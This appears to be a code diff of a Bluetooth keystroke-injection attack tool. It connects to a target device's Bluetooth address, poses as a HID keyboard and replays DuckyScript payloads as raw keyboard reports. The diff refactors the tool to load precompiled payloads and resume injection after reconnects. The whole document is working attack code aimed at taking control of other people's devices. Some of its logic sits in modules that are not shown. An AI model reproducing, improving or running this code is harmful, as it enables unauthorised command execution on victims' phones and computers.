@@ -1,15 +1,16 @@
 import binascii, bluetooth, sys, time, datetime, logging, argparse
 from multiprocessing import Process
 from pydbus import SystemBus
-from enum import Enum
 import subprocess
 import os
 import logging
 from PyQt5 import QtWidgets, QtGui
 from PyQt5.QtWidgets import QApplication, QMainWindow, QPushButton, QLabel, QVBoxLayout, QWidget, QFileDialog, QMessageBox, QComboBox,  QListWidget
 from bluetooth import discover_devices
-from utils.menu_gui import ( read_duckyscript, run, restart_bluetooth_daemon)
+from utils.menu_gui import ( run, restart_bluetooth_daemon)
+from utils.payload_cache import load_compiled_payload
 from utils.register_device import register_hid_profile, agent_loop
+from utils.duckyscript_compiler import encode_keys
 from PyQt5.QtCore import QThread, pyqtSignal
 from PyQt5.QtCore import QProcess
 child_processes = []
@@ -171,11 +172,10 @@ class L2CAPConnectionManager:
 
 # Custom exception to handle reconnection
 class ReconnectionRequiredException(Exception):
-    def __init__(self, message, current_line=0, current_position=0):
+    def __init__(self, message, current_report=0):
         super().__init__(message)
         time.sleep(2)
-        self.current_line = current_line
-        self.current_position = current_position
+        self.current_report = current_report
 
 class L2CAPClient:
     def __init__(self, addr, port):
@@ -184,18 +184,9 @@ class L2CAPClient:
         self.connected = False
         self.sock = None
 
+    @staticmethod
     def encode_keyboard_input(*args):
-      keycodes = []
-      flags = 0
-      for a in args:
-        if isinstance(a, Key_Codes):
-          keycodes.append(a.value)
-        elif isinstance(a, Modifier_Codes):
-          flags |= a.value
-      assert(len(keycodes) <= 7)
-      keycodes += [0] * (7 - len(keycodes))
-      report = bytes([0xa1, 0x01, flags, 0x00] + keycodes)
-      return report
+        return encode_keys(*args)
 
     def close(self):
         if self.connected:
@@ -318,293 +309,18 @@ class L2CAPClient:
         self.send(release_report)
         time.sleep(delay)
 
-def process_duckyscript(client, duckyscript, current_line=0, current_position=0):
-    client.send_keypress('')  # Send empty report to ensure a clean start
-    time.sleep(0.5)
-
-    shift_required_characters = "!@#$%^&*()_+{}|:\"<>?ABCDEFGHIJKLMNOPQRSTUVWXYZ"
-
+def process_duckyscript(client, program, current_report=0):
+    index = current_report
     try:
-        for line_number, line in enumerate(duckyscript):
-            if line_number < current_line:
-                continue  # Skip already processed lines
-
-            if line_number == current_line and current_position > 0:
-                line = line[current_position:]  # Resume from the last position within the current line
-            else:
-                current_position = 0  # Reset position for new line
-
-            line = line.strip()
-            log.info(f"Processing {line}")
-            if not line or line.startswith("REM"):
-                continue
-            if line.startswith("TAB"):
-                client.send_keypress(Key_Codes.TAB)
-            if line.startswith("PRIVATE_BROWSER"):
-                report = bytes([0xa1, 0x01, Modifier_Codes.CTRL.value | Modifier_Codes.SHIFT.value, 0x00, Key_Codes.n.value, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00])
-                client.send(report)
-                # Don't forget to send a release report afterwards
-                release_report = bytes([0xa1, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00])
-                client.send(release_report)
-            if line.startswith("VOLUME_UP"):
-                # Send GUI + V
-                hid_report_gui_v = bytes.fromhex("a1010800190000000000")
-                client.send(hid_report_gui_v)
-                time.sleep(0.1)  # Short delay
-
-                client.send_keypress(Key_Codes.TAB)
-
-                # Press UP while holding GUI + V
-                hid_report_up = bytes.fromhex("a1010800195700000000")
-                client.send(hid_report_up)
-                time.sleep(0.1)  # Short delayF
-
-                # Release all keys
-                hid_report_release = bytes.fromhex("a1010000000000000000")
-                client.send(hid_report_release)
-            if line.startswith("DELAY"):
-                try:
-                    # Extract delay time from the line
-                    delay_time = int(line.split()[1])  # Assumes delay time is in milliseconds
-                    time.sleep(delay_time / 1000)  # Convert milliseconds to seconds for sleep
-                except ValueError:
-                    log.error(f"Invalid DELAY format in line: {line}")
-                except IndexError:
-                    log.error(f"DELAY command requires a time parameter in line: {line}")
-                continue  # Move to the next line after the delay
-            if line.startswith("STRING"):
-                text = line[7:]
-                for char_position, char in enumerate(text, start=1):
-                    log.notice(f"Attempting to send letter: {char}")
-                    # Process each character
-                    try:
-                        if char.isdigit():
-                            key_code = getattr(Key_Codes, f"_{char}")
-                            client.send_keypress(key_code)
-                        elif char == " ":
-                            client.send_keypress(Key_Codes.SPACE)
-                        elif char == "[":
-                            client.send_keypress(Key_Codes.LEFTBRACE)
-                        elif char == "]":
-                            client.send_keypress(Key_Codes.RIGHTBRACE)
-                        elif char == ";":
-                            client.send_keypress(Key_Codes.SEMICOLON)
-                        elif char == "'":
-                            client.send_keypress(Key_Codes.QUOTE)
-                        elif char == "/":
-                            client.send_keypress(Key_Codes.SLASH)
-                        elif char == ".":
-                            client.send_keypress(Key_Codes.DOT)
-                        elif char == ",":
-                            client.send_keypress(Key_Codes.COMMA)
-                        elif char == "|":
-                            client.send_keypress(Key_Codes.PIPE)
-                        elif char == "-":
-                            client.send_keypress(Key_Codes.MINUS)
-                        elif char == "=":
-                            client.send_keypress(Key_Codes.EQUAL)
-                        elif char in shift_required_characters:
-                            key_code_str = char_to_key_code(char)
-                            if key_code_str:
-                                key_code = getattr(Key_Codes, key_code_str)
-                                client.send_keyboard_combination(Modifier_Codes.SHIFT, key_code)
-                            else:
-                                log.warning(f"Unsupported character '{char}' in Duckyscript")
-                        elif char.isalpha():
-                            key_code = getattr(Key_Codes, char.lower())
-                            if char.isupper():
-                                client.send_keyboard_combination(Modifier_Codes.SHIFT, key_code)
-                            else:
-                                client.send_keypress(key_code)
-                        else:
-                            key_code = char_to_key_code(char)
-                            if key_code:
-                                client.send_keypress(key_code)
-                            else:
-                                log.warning(f"Unsupported character '{char}' in Duckyscript")
-                                
-                        current_position = char_position
-
-                    except AttributeError as e:
-                        log.warning(f"Attribute error: {e} - Unsupported character '{char}' in Duckyscript")
-            
-            elif any(mod in line for mod in ["SHIFT", "ALT", "CTRL", "GUI", "COMMAND", "WINDOWS"]):
-                # Process modifier key combinations
-                components = line.split()
-                if len(components) == 2:
-                    modifier, key = components
-                    try:
-                        # Convert to appropriate enums
-                        modifier_enum = getattr(Modifier_Codes, modifier.upper())
-                        key_enum = getattr(Key_Codes, key.lower())
-                        client.send_keyboard_combination(modifier_enum, key_enum)
-                        log.notice(f"Sent combination: {line}")
-                    except AttributeError:
-                        log.warning(f"Unsupported combination: {line}")
-                else:
-                    log.warning(f"Invalid combination format: {line}")
-            elif line.startswith("ENTER"):
-                client.send_keypress(Key_Codes.ENTER)
-            # After processing each line, reset current_position to 0 and increment current_line
-            current_position = 0  
-            current_line += 1  
-
+        for index, report, delay in program.iter_from(current_report):
+            client.send(report)
+            if delay:
+                time.sleep(delay)
     except ReconnectionRequiredException:
-        raise ReconnectionRequiredException("Reconnection required", current_line, current_position)
+        raise ReconnectionRequiredException("Reconnection required", index)
     except Exception as e:
         log.error(f"Error during script execution: {e}")
 
-def char_to_key_code(char):
-    # Mapping for special characters that always require SHIFT
-    shift_char_map = {
-        '!': 'EXCLAMATION_MARK',
-        '@': 'AT_SYMBOL',
-        '#': 'HASHTAG',
-        '$': 'DOLLAR',
-        '%': 'PERCENT_SYMBOL',
-        '^': 'CARET_SYMBOL',
-        '&': 'AMPERSAND_SYMBOL',
-        '*': 'ASTERISK_SYMBOL',
-        '(': 'OPEN_PARENTHESIS',
-        ')': 'CLOSE_PARENTHESIS',
-        '_': 'UNDERSCORE_SYMBOL',
-        '+': 'KEYPADPLUS',
-	    '{': 'LEFTBRACE',
-	    '}': 'RIGHTBRACE',
-	    ':': 'SEMICOLON',
-	    '\\': 'BACKSLASH',
-	    '"': 'QUOTE',
-        '<': 'COMMA',
-        '>': 'DOT',
-	    '?': 'QUESTIONMARK',
-	    'A': 'a',
-	    'B': 'b',
-	    'C': 'c',
-	    'D': 'd',
-	    'E': 'e',
-	    'F': 'f',
-	    'G': 'g',
-	    'H': 'h',
-	    'I': 'i',
-	    'J': 'j',
-	    'K': 'k',
-	    'L': 'l',
-	    'M': 'm',
-	    'N': 'n',
-	    'O': 'o',
-	    'P': 'p',
-	    'Q': 'q',
-	    'R': 'r',
-	    'S': 's',
-	    'T': 't',
-	    'U': 'u',
-	    'V': 'v',
-	    'W': 'w',
-	    'X': 'x',
-	    'Y': 'y',
-	    'Z': 'z',
-	
-    }
-    return shift_char_map.get(char)
-
-# Key codes for modifier keys
-class Modifier_Codes(Enum):
-    CTRL = 0x01
-    RIGHTCTRL = 0x10
-
-    SHIFT = 0x02
-    RIGHTSHIFT = 0x20
-
-    ALT = 0x04
-    RIGHTALT = 0x40
-
-    GUI = 0x08
-    WINDOWS = 0x08
-    COMMAND = 0x08
-    RIGHTGUI = 0x80
-
-class Key_Codes(Enum):
-    NONE = 0x00
-    a = 0x04
-    b = 0x05
-    c = 0x06
-    d = 0x07
-    e = 0x08
-    f = 0x09
-    g = 0x0a
-    h = 0x0b
-    i = 0x0c
-    j = 0x0d
-    k = 0x0e
-    l = 0x0f
-    m = 0x10
-    n = 0x11
-    o = 0x12
-    p = 0x13
-    q = 0x14
-    r = 0x15
-    s = 0x16
-    t = 0x17
-    u = 0x18
-    v = 0x19
-    w = 0x1a
-    x = 0x1b
-    y = 0x1c
-    z = 0x1d
-    _1 = 0x1e
-    _2 = 0x1f
-    _3 = 0x20
-    _4 = 0x21
-    _5 = 0x22
-    _6 = 0x23
-    _7 = 0x24
-    _8 = 0x25
-    _9 = 0x26
-    _0 = 0x27
-    ENTER = 0x28
-    ESCAPE = 0x29
-    BACKSPACE = 0x2a
-    TAB = 0x2b
-    SPACE = 0x2c
-    MINUS = 0x2d
-    EQUAL = 0x2e
-    LEFTBRACE = 0x2f
-    RIGHTBRACE = 0x30
-    CAPSLOCK = 0x39
-    VOLUME_UP = 0x3b
-    VOLUME_DOWN = 0xee
-    SEMICOLON = 0x33
-    COMMA = 0x36
-    PERIOD = 0x37
-    SLASH = 0x38
-    PIPE = 0x31
-    BACKSLASH = 0x31
-    GRAVE = 0x35
-    APOSTROPHE = 0x34
-    LEFT_BRACKET = 0x2f
-    RIGHT_BRACKET = 0x30
-    DOT = 0x37
-    RIGHT = 0x4f
-    LEFT = 0x50
-    DOWN = 0x51
-    UP = 0x52
-
-    # SHIFT KEY MAPPING
-    EXCLAMATION_MARK = 0x1e
-    AT_SYMBOL = 0x1f
-    HASHTAG = 0x20
-    DOLLAR = 0x21
-    PERCENT_SYMBOL = 0x22
-    CARET_SYMBOL = 0x23
-    AMPERSAND_SYMBOL = 0x24
-    ASTERISK_SYMBOL = 0x25
-    OPEN_PARENTHESIS = 0x26
-    CLOSE_PARENTHESIS = 0x27
-    UNDERSCORE_SYMBOL = 0x2d
-    QUOTE = 0x34
-    QUESTIONMARK = 0x38
-    KEYPADPLUS = 0x57
-
 def terminate_child_processes():
     for proc in child_processes:
         if proc.is_alive():
@@ -679,25 +395,23 @@ def run_gui_attack(target_address, payload_path, adapter_id='hci0'):
     if not target_address or not os.path.exists(payload_path):
         return "Target address or payload not valid"
 
-    duckyscript = read_duckyscript(payload_path)
-    if not duckyscript:
+    program = load_compiled_payload(payload_path)
+    if not program:
         return "Failed to read payload"
 
     adapter = setup_bluetooth(target_address, adapter_id)
     adapter.enable_ssp()
 
     connection_manager = L2CAPConnectionManager(target_address)
-    current_line = 0
-    current_position = 0
+    current_report = 0
 
     while True:
         try:
             hid_interrupt_client = setup_and_connect(connection_manager, target_address, adapter_id)
-            process_duckyscript(hid_interrupt_client, duckyscript, current_line, current_position)
+            process_duckyscript(hid_interrupt_client, program, current_report)
             return "Success"
         except ReconnectionRequiredException as e:
-            current_line = e.current_line
-            current_position = e.current_position
+            current_report = e.current_report
             connection_manager.close_all()
             time.sleep(2)
         except Exception as e: